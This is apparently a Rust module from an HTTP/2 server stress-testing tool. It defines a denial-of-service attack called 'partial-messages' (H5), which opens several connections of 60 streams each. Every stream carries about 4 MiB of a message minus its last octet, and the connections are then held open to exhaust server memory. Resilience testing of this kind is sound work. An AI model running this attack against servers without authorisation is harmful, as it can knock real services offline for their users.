//! Messages of which the last octet never comes.

use std::sync::Arc;

use super::http2;
use crate::attack::{Attack, Outcome, Running, Target};
use crate::wire;

/// H5.
pub(super) const PARTIAL_MESSAGES: Attack = Attack {
    memory_mib: 96,
    ..Attack::new(
        "partial-messages",
        "H5",
        "60 streams of a connection, each with 4 MiB of a message but for its last octet",
        run,
    )
};

fn run(target: Arc<Target>) -> Running {
    Box::pin(async move {
        let mut outcome = Outcome::default();
        let mut open = Vec::new();
        let mut part = wire::message(&vec![0; (4 << 20) - 64]);
        part.pop();
        while target.goes_on() && open.len() < 4 {
            let Ok(mut peer) = http2(&target).await else {
                outcome.refused += 1;
                target.rest(std::time::Duration::from_millis(100)).await;
                continue;
            };
            for _ in 0..peer.at_once(60) {
                outcome.sent += 1;
                let sent = async {
                    let stream = peer.call(&wire::ads()).await?;
                    peer.data(stream, &part).await
                };
                if sent.await.is_err() {
                    break;
                }
                if !target.goes_on() {
                    break;
                }
            }
            outcome.refused += u64::from(peer.told.refused());
            open.push(peer);
        }
        target.hold().await;
        Ok(outcome)
    })
}
